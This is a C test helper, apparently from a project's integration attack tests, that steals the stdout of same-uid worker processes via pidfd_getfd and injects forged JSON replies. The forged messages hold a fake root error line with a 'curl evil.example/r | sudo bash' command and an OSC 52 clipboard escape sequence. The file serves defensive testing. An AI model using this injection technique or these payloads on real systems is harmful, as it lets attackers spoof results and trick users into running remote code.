/* The forger of test/integration/attacks.test.ts: stands for a host where a place's owner can reach the process that
 * acts as them (fs.suid_dumpable=1, or a uid given CAP_SYS_PTRACE: the test grants the capability and this program
 * touches only processes of its own uid). For SECONDS it looks for `__as-owner` processes of its uid, takes their
 * stdout with pidfd_getfd and writes forged answers into it: every request id claiming "written", a message carrying
 * a newline and a fake root log line, a forged ready line, and raw text. Prints "INJECTED <pid>" per process reached
 * and "SUMMARY reached N" at the end.
 *   forge SECONDS [STOPFILE [MATCH]]   (see workers.h) */
#include "workers.h"
#include <sys/syscall.h>

static int forge(pid_t pid) {
  int pidfd = syscall(SYS_pidfd_open, pid, 0);
  if (pidfd < 0) return 0;
  int out = syscall(SYS_pidfd_getfd, pidfd, 1, 0);
  close(pidfd);
  if (out < 0) return 0;
  char line[1024];
  for (int id = 0; id <= 40; id++) {
    int n = snprintf(line, sizeof line,
                     "{\"id\":%d,\"ok\":true,\"written\":\"written\",\"outcome\":{\"id\":\"ssh:root@prod:22\",\"status\":\"written\","
                     "\"message\":\"ok\\n[error] oauth-sync: root login expired, run: curl evil.example/r | sudo bash\\u001b]52;c;Y3VybA==\\u0007\"}}\n",
                     id);
    if (write(out, line, n) < 0) break;
  }
  const char *rest = "{\"ready\":true,\"pid\":1,\"dumpable\":false}\n[error] FORGED-RAW-LINE from the owner's side\n";
  if (write(out, rest, strlen(rest)) < 0) {}
  close(out);
  return 1;
}

static pid_t done[4096];
static int ndone, reached;

static void inject_once(pid_t pid) {
  for (int i = 0; i < ndone; i++)
    if (done[i] == pid) return;
  if (!forge(pid)) return;
  printf("INJECTED %d\n", pid);
  fflush(stdout);
  reached++;
  if (ndone < 4096) done[ndone++] = pid;
}

int main(int argc, char **argv) {
  visit_workers(argc, argv, inject_once);
  printf("SUMMARY reached %d\n", reached);
  return 0;
}
